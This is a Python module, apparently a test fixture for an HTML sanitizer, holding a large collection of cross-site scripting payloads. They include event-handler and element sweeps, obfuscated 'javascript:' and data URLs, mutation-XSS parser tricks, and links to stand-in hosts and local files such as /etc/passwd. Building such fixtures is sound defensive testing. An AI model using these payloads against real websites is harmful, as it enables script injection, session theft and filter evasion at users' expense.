"""More hostile HTML: what wants to run a script or open a window, family by family."""

# ruff: noqa: E501, SIM905 - payloads stay as they are written

from __future__ import annotations

_ACT = "alert(1)"
HANDLERS = (
    "onabort onafterprint onafterscriptexecute onanimationend onanimationiteration onanimationstart onauxclick "
    "onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforeprint onbeforescriptexecute onbeforetoggle "
    "onbeforeunload onbegin onblur oncancel oncanplay onchange onclick onclose oncontentvisibilityautostatechange "
    "oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart "
    "ondrop ondurationchange onend onended onerror onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange "
    "ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadstart "
    "onmessage onmousedown onmouseenter onmousemove onmouseout onmouseover onmouseup onmousewheel onoffline ononline "
    "onpagehide onpageshow onpaste onpause onplay onpointerdown onpointerenter onpointermove onpointerover "
    "onpointerrawupdate onpopstate onprogress onrepeat onreset onresize onscroll onscrollend onscrollsnapchange "
    "onsearch onseeking onselect onselectionchange onselectstart onshow onslotchange onstart onstorage onsubmit "
    "ontoggle ontouchend ontouchmove ontouchstart ontransitionend ontransitionrun onunhandledrejection onunload "
    "onvolumechange onwaiting onwebkitanimationend onwebkittransitionend onwheel"
).split()
ELEMENTS = (
    "a abbr acronym address applet area article aside audio b base bdi bdo bgsound big blink blockquote body br button "
    "canvas caption center cite code col colgroup command content custom-element data datalist dd del details dfn "
    "dialog dir div dl dt element em embed fieldset figcaption figure font footer form frame frameset h1 head header "
    "hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee "
    "menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p "
    "param picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select shadow slot "
    "small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead "
    "time title tr track tt u ul var video wbr xmp"
).split()
_SCHEMES = {
    "in capitals": "JaVaScRiPt:alert(1)",
    "behind blanks": "   javascript:alert(1)",
    "behind a line end": "&#10;javascript:alert(1)",
    "behind a tab": "&Tab;javascript:alert(1)",
    "with a tab in every letter": "j&#9;a&#9;v&#9;a&#9;script:alert(1)",
    "with a carriage return": "java&#13;script:alert(1)",
    "in decimal": "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "in long decimal": "&#0000000106avascript:alert(1)",
    "in hexadecimal": "&#x6A&#x61&#x76&#x61script:alert(1)",
    "with an escaped colon": "javascript&#x3A;alert(1)",
    "with a named colon": "javascript&colon;alert(1)",
    "with a soft hyphen": "java&shy;script:alert(1)",
    "with a joiner": "java&zwj;script:alert(1)",
    "behind a byte order mark": "&#xFEFF;javascript:alert(1)",
    "behind a blank of no width": "&#x200B;javascript:alert(1)",
    "with a comment": "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/alert(1)",
    "as a template text": "javascript:`${alert(1)}`",
    "with a label": "javascript://x.example/%0aalert(1)",
    "with a query that ends a text": "javascript:'\"-->]]>*/</script></style>&alert(1)//'",
    "as a page": "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
    "as a page in base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "as a page of XML": "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'/>",
    "as a drawing": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "of an old program": "vbscript:MsgBox(1)",
    "of another old program": "livescript:[code]",
    "of another browser's": "mocha:[code]",
    "as a source": "view-source:javascript:alert(1)",
    "as a feed": "feed:javascript:alert(1)",
    "as an archive": "jar:http://evil.example/x.jar!/x.html",
    "as a file": "file:///etc/passwd",
    "as a file of the system": "filesystem:http://evil.example/x",
    "as something made": "blob:http://evil.example/1",
    "of a shared machine": "\\\\evil.example\\x",
    "of an intent": "intent:#Intent;scheme=javascript;S.x=1;end",
    "of a program": "ms-msdt:/id PCWDiagnostic",
    "of the browser": "chrome://settings",
    "about nothing": "about:blank#<script>alert(1)</script>",
}
_TREES = {
    "math that becomes HTML by a table": "<math><mtext><table><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "math with a title in a drawing": "<math><mi><svg><title><img src=x onerror=alert(1)></title></svg></mi></math>",
    "math with text in annotation": "<math><annotation-xml encoding=TEXT/HTML><noscript><img src=x onerror=alert(1)></noscript>",
    "math with a script": "<math><script>alert(1)</script></math>",
    "math that links": "<math><mrow xlink:type=simple xlink:href=javascript:alert(1)><mi>x</mi></mrow></math>",
    "a drawing with CDATA": "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>",
    "a drawing with a comment": "<svg><!--</svg><img src=x onerror=alert(1)>--></svg>",
    "a drawing that sets": "<svg><a id=x><rect width=9 height=9 /></a><animate xlink:href=#x attributeName=href to=javascript:alert(1) /></svg>",
    "a drawing that sets by set": "<svg><set attributeName=onmouseover to=alert(1)><text>x</text></svg>",
    "a drawing that begins by time": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "a drawing that moves": "<svg><animateTransform onbegin=alert(1)></svg>",
    "a drawing with a handler element": "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)</handler></svg>",
    "a drawing that discards": "<svg><discard onbegin=alert(1)></svg>",
    "a drawing with foreign mark-up": "<svg><foreignObject><body xmlns=http://www.w3.org/1999/xhtml onload=alert(1)></body></foreignObject></svg>",
    "a drawing with a script from elsewhere": "<svg><script href=data:,alert(1)></script></svg>",
    "a drawing with a script, in parts": "<svg><script>/*<![CDATA[*/alert(1)//]]></script></svg>",
    "a drawing in a select": "<select><svg><style><img src=x onerror=alert(1)></style></svg></select>",
    "a drawing in a template": "<template><svg onload=alert(1)></svg></template>",
    "a drawing closed by p": "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "a drawing closed by br": "<svg></br><style><a title='</style><img src=x onerror=alert(1)>'>",
    "a drawing closed by font": "<svg><font color=red><style><a title='</style><img src=x onerror=alert(1)>'>",
    "a form owner that moves": "<form id=x><div></form><form><math><mtext></form><form><style></math><img src=x onerror=alert(1)>",
    "a table that takes in": "<table><a><table></table><a></table><mglyph><style></math><img src=x onerror=alert(1)>",
    "a table in a button": "<button><table><button><style></button><img src=x onerror=alert(1)></style></table>",
    "a caption that closes": "<table><caption><svg></caption><style><img src=x onerror=alert(1)></style>",
    "headings in headings": "<h1><h2><svg><h3><style><img title='</style><img src=x onerror=alert(1)>'>",
    "lists in lists": "<ul><li><ul></li><style><a title='</style><img src=x onerror=alert(1)>'>",
    "a ruby that closes": "<ruby><rtc><svg><rt><style><img src=x onerror=alert(1)></style>",
    "options that close": "<select><option><optgroup></select><img src=x onerror=alert(1)>",
    "a nobr twice": "<nobr><table><nobr><style></nobr><img src=x onerror=alert(1)></style>",
    "an applet's marker": "<applet><b><object></b><style></applet><img src=x onerror=alert(1)></style>",
    "a marquee's marker": "<marquee><b></marquee></b><style></style><img src=x onerror=alert(1)>",
    "a template within a table": "<table><template><tr></template><img src=x onerror=alert(1)></table>",
    "a shadow with a handler": "<div><template shadowrootmode=closed><img src=x onerror=alert(1)></template></div>",
    "an end before a beginning": "</form></table></svg></math><img src=x onerror=alert(1)>",
    "an end of the page": "</body></html><script>alert(1)</script>",
    "a second page": "<html><head><script>alert(1)</script></head><body onload=alert(1)></body></html>",
    "a script with src and without end": "<script src=data:,alert(1)",
    "a script of modules": "<script type=module>import 'data:text/javascript,alert(1)'</script>",
    "a script with a map": '<script type=importmap>{"imports":{}}</script><script type=speculationrules>{"prefetch":[]}</script>',
    "a script with strange blanks": "<script\x0b>alert(1)</script\x0b><script\u2028>alert(1)</script>",
    "a script with a slash": "<script/&Tab; src='data:,alert(1)'></script>",
    "a script twice open": "<<script>script>alert(1)//<</script>",
    "a script in a comment's end": "<!-- sample --!><script>alert(1)</script><!-- -->",
    "a script behind a bogus comment": "<!foo='><script>alert(1)</script>'>",
    "a script behind an instruction": "<?foo='><script>alert(1)</script>'>",
    "a script behind a bogus end": "</ foo='><script>alert(1)</script>'>",
    "a script behind a declaration": "<!DOCTYPE x[<!ENTITY y SYSTEM 'http://evil.example/'>]><x>&y;</x>",
    "a script in an attribute name": '<p "><script>alert(1)</script>"=x>Hi</p>',
    "a script behind equals": '<p ="><script>alert(1)</script>">Hi</p>',
    "a frame with a page in itself": "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'></iframe>",
    "a frame with a fence": "<fencedframe src=javascript:alert(1)></fencedframe><portal src=javascript:alert(1)></portal>",
    "an object with a page": "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
    "an embed with a page": "<embed type=text/html src='data:text/html,<script>alert(1)</script>'>",
    "a key that clicks": "<a href=javascript:alert(1) accesskey=x>x</a><input type=hidden accesskey=x onclick=alert(1)>",
    "a button that sends elsewhere": "<form><button formaction=javascript:alert(1)>x</button><input type=image formaction=javascript:alert(1)></form>",
    "a form that calls": "<form action=javascript:alert(1) method=dialog><input type=submit autofocus></form>",
    "a button that commands": "<button command=show-modal commandfor=x>x</button><dialog id=x>x</dialog>",
    "an invoker": "<button popovertarget=x popovertargetaction=toggle>x</button><div id=x popover onbeforetoggle=alert(1)>x</div>",
    "is": "<button is=x-evil onconnected=alert(1)>x</button>",
    "behaviours": "<xss style='behavior:url(#default#time2)' onbegin=alert(1)>x</xss>",
    "data islands": "<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml><label dataformatas=html datasrc=#x datafld=b></label>",
    "words that were entities": "&lt;script&gt;alert(1)&lt;/script&gt;<b>&amp;lt;img src=x onerror=alert(1)&amp;gt;</b>",
}
RUNNING = {
    **{
        f"handlers {HANDLERS[at]} and on": "".join(f"<p {one}={_ACT} tabindex=1 autofocus>x</p>" for one in HANDLERS[at : at + 4])
        for at in range(0, len(HANDLERS), 4)
    },
    **{
        f"elements {ELEMENTS[at]} and on": "".join(
            f"<{one} onload={_ACT} onerror={_ACT} onfocus={_ACT} src=x href=javascript:{_ACT} autofocus>x</{one}>"
            for one in ELEMENTS[at : at + 3]
        )
        for at in range(0, len(ELEMENTS), 3)
    },
    **{f"a link {name}": f'<a href="{url}">x</a><area href="{url}"><img src="{url}">' for name, url in _SCHEMES.items()},
    **{f"a frame {name}": f'<iframe src="{url}"></iframe><object data="{url}"></object>' for name, url in _SCHEMES.items()},
    **{f"tree: {name}": markup for name, markup in _TREES.items()},
}  # fmt: skip
